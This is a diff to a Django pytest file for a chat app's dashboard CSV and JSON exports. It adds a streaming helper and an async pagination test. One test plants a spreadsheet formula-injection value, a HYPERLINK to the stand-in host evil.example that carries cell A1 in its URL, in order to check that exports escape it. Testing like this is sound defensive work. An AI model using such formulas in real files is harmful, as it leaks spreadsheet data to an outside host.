@@ -7,10 +7,13 @@ import io
 import json
 
 import pytest
+from asgiref.sync import async_to_sync
 from django.core.management import call_command
 
+from chatapp.chat.dashboard.export import dashboard_record_chunks
 from chatapp.chat.models import Message, OptimizationRecord
 from tests.dashboard.factories import make_conversation, make_record
+from tests.support.streaming import streamed_body
 
 pytestmark = pytest.mark.django_db
 
@@ -100,7 +103,7 @@ def test_csv_export(owner_client, small):
     response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.csv")
     assert response["Content-Type"].startswith("text/csv")
     assert "attachment" in response["Content-Disposition"]
-    text = b"".join(response.streaming_content).decode()
+    text = streamed_body(response).decode()
     rows = list(csv.DictReader(io.StringIO(text)))
     assert [int(r["turn"]) for r in rows] == [1, 2, 3]
     assert [int(r["id"]) for r in rows] == [r.pk for r in small.records]
@@ -119,7 +122,7 @@ def test_csv_export_never_writes_a_formula(owner_client, small):
     small.records[0].__class__.objects.filter(pk=small.records[0].pk).update(
         model='=HYPERLINK("https://evil.example/?x="&A1,"click")', reason="+1 then -2 @here")
     response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.csv")
-    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    rows = list(csv.DictReader(io.StringIO(streamed_body(response).decode())))
     assert rows[0]["model"] == """'=HYPERLINK("https://evil.example/?x="&A1,"click")"""
     assert rows[0]["reason"] == "'+1 then -2 @here"
     assert int(rows[1]["tokens_saved"]) >= 0  # numbers stay numbers
@@ -128,7 +131,7 @@ def test_csv_export_never_writes_a_formula(owner_client, small):
 def test_json_export(owner_client, small):
     response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.json")
     assert response["Content-Type"] == "application/json"
-    data = json.loads(b"".join(response.streaming_content))
+    data = json.loads(streamed_body(response))
     assert data["conversation"] == {"id": small.conversation.pk, "title": "Small one"}
     records = data["records"]
     assert [r["turn"] for r in records] == [1, 2, 3]
@@ -138,9 +141,23 @@ def test_json_export(owner_client, small):
     assert records[0]["stats"] == {"trigger_tokens": 700}
 
 
+def test_exports_stream_from_async_iterators_page_by_page(owner_client, small):
+    """Under ASGI only an async iterator is streamed (a sync one is read whole first); pages keep the
+    turn numbers and order across their boundaries."""
+    for suffix in ("csv", "json"):
+        assert owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.{suffix}").is_async
+
+    async def pages() -> list[list[tuple[int, int]]]:
+        return [[(row.turn, row.data["id"]) for row in page]
+                async for page in dashboard_record_chunks(conversation=small.conversation, chunk_size=2)]
+
+    assert async_to_sync(pages)() == [[(1, small.records[0].pk), (2, small.records[1].pk)],
+                                      [(3, small.records[2].pk)]]
+
+
 def test_json_export_of_an_empty_conversation(owner_client, user):
     c = make_conversation(owner=user)
-    data = json.loads(b"".join(owner_client.get(f"/c/{c.pk}/dashboard/export.json").streaming_content))
+    data = json.loads(streamed_body(owner_client.get(f"/c/{c.pk}/dashboard/export.json")))
     assert data["records"] == []
 
 
